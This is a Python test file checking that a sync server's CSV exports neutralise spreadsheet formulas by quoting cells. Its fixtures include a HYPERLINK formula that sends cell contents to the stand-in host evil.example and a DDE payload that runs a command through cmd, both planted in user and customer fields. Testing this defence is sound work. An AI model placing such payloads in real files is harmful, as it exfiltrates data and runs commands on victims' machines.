"""Every CSV export neutralises text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from sync_server.office.csv_export import safe_cell
from sync_server.services.auth import add_user
from sync_server.services.records import insert_records
from sync_server.storage.db import open_database
from tests.conftest import ServerProcess
from tests.server.test_conflict_review import office_session
from tests.world import PASSWORD

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
DDE = "+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("typed", "written"), [
    (LINK, "'" + LINK), (DDE, "'" + DDE), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("陈桂芳", "陈桂芳"), ("a=b", "a=b"), ("", ""),
    (-3, -3), (0.5, 0.5), (None, None)])
def test_a_cell_that_would_be_a_formula_is_written_as_text(typed, written):
    assert safe_cell(typed) == written


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_exports_never_carry_a_formula(server: ServerProcess):
    # What people typed: a technician's name as an admin entered it, a customer's district
    # and record id as another system sent them, the user that change is logged under.
    db = open_database(server.data_dir, server.database_url)
    with db.write() as conn:
        add_user(conn, "tech09", LINK, "technician", PASSWORD, "秦淮区", ["inspection"])
        insert_records(conn, "customers", [{
            "id": "=1+2", "account_no": "320100000099", "name": DDE, "phone": "13900009999",
            "address": "@SUM(1+1)", "district": "-东区", "kind": "residential"}],
            by_user="\tsync")
    db.close()
    office = office_session(server, "supervisor")

    kpis = office.get(f"{server.url}/office/kpis.csv", timeout=10)
    assert kpis.status_code == 200
    rows = rows_of(kpis.content)
    assert ["tech09", "'" + LINK, "秦淮区", "0", "0"] in rows
    assert any(r[:2] == ["'-东区", "1"] for r in rows)  # the count stays a number

    audit = office.get(f"{server.url}/office/audit.csv", timeout=10,
                       params={"table": "customers"})
    assert audit.status_code == 200
    rows = rows_of(audit.content)
    mine = next(r for r in rows[1:] if r[6] == "'=1+2")
    assert mine[3] == "'\tsync"
    assert DDE in mine[8]  # inside the JSON of the fields: not at the start of a cell

    for body in (kpis.content, audit.content):
        cells = [c for r in rows_of(body) for c in r]
        assert not [c for c in cells if c.startswith(FORMULA_START)]
